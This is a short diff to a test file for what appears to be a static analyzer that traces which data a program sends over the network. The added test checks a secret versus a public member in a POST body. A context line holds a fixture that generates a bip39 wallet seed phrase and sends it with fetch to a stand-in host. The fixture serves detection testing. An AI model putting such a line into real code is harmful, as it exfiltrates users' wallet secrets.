@@ -48,6 +48,17 @@ it('tells apart what functions do', async () => {
   expect(after).not.toBe(before);
 });
 
+it('tells apart which member a function reads, and not what else stands in its file', async () => {
+  const sends = (member: string): string => PROGRAM.replace('body: text', `body: text.${member}`);
+  const [before] = await ends({ 'a.js': sends('public') });
+  const [after] = await ends({ 'a.js': sends('secret') });
+  expect(after?.split(' ')[1]).toBe('post');
+  expect(after).not.toBe(before);
+  expect(await ends({ 'a.js': `const other = ['a', 'b'].length; exports.other = other;\n${sends('public')}` })).toEqual([
+    before,
+  ]);
+});
+
 it('calls what runs in no function by its file alone', async () => {
   const [found] = await ends({
     'a.js': `const seed = require('bip39').generateMnemonic(); fetch('https://example.invalid/' + seed);`,
